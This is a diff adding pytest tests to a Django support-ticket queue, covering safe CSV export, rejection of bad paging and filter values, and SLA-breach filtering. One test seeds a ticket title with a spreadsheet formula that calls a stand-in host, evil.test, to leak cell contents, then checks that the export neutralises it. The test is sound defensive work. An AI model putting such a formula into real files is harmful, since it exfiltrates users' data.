@@ -67,6 +67,15 @@ def test_the_queue_exports_csv(client, plan, partner, partner_member, support_l1
     assert rows[1][2] == "Exported ticket"
 
 
+def test_the_csv_export_has_plain_values_and_no_formulas(client, plan, partner, partner_member, support_l1):
+    file_ticket(partner, partner_member, title='=HYPERLINK("http://evil.test/?"&A1,"Click")')
+    client.force_login(support_l1)
+    rows = list(csv.reader(io.StringIO(client.get(reverse("queue"), {"_export": "csv"}).content.decode())))
+    assert rows[1][1] == "P2"
+    assert rows[1][2] == '\'=HYPERLINK("http://evil.test/?"&A1,"Click")'
+    assert "<" not in "".join(rows[1])
+
+
 def test_the_queue_colours_rows_by_sla_state(client, plan, partner, partner_member, support_l1):
     file_ticket(partner, partner_member, title="Breached one", severity="P1", at=timezone.now() - timedelta(hours=1))
     client.force_login(support_l1)
@@ -101,3 +110,22 @@ def test_the_ticket_list_runs_the_same_number_of_queries_at_any_size(
     client.force_login(partner_member)
     with django_assert_num_queries(TICKET_LIST_QUERIES):
         assert client.get(reverse("ticket_list")).status_code == 200
+
+
+@pytest.mark.parametrize("params", [{"per_page": "-3"}, {"page": "4611686018427387904"}, {"status": "bogus"}])
+def test_bad_paging_or_filters_answer_400_with_no_rows(client, plan, partner, partner_member, support_l1, params):
+    file_ticket(partner, partner_member, title="Should not show")
+    client.force_login(support_l1)
+    response = client.get(reverse("queue"), params)
+    assert response.status_code == 400
+    assert "Should not show" not in response.content.decode()
+
+
+def test_a_ticket_answered_late_counts_as_breached_in_the_filter(client, plan, partner, partner_member, support_l1):
+    from support import services
+
+    late = file_ticket(partner, partner_member, title="Answered late", at=timezone.now() - timedelta(minutes=90))
+    services.transition_ticket(late, action="acknowledge", by=support_l1)
+    client.force_login(support_l1)
+    assert "Answered late" in client.get(reverse("queue"), {"sla_state": "breached"}).content.decode()
+    assert "Answered late" not in client.get(reverse("queue"), {"sla_state": "ok"}).content.decode()
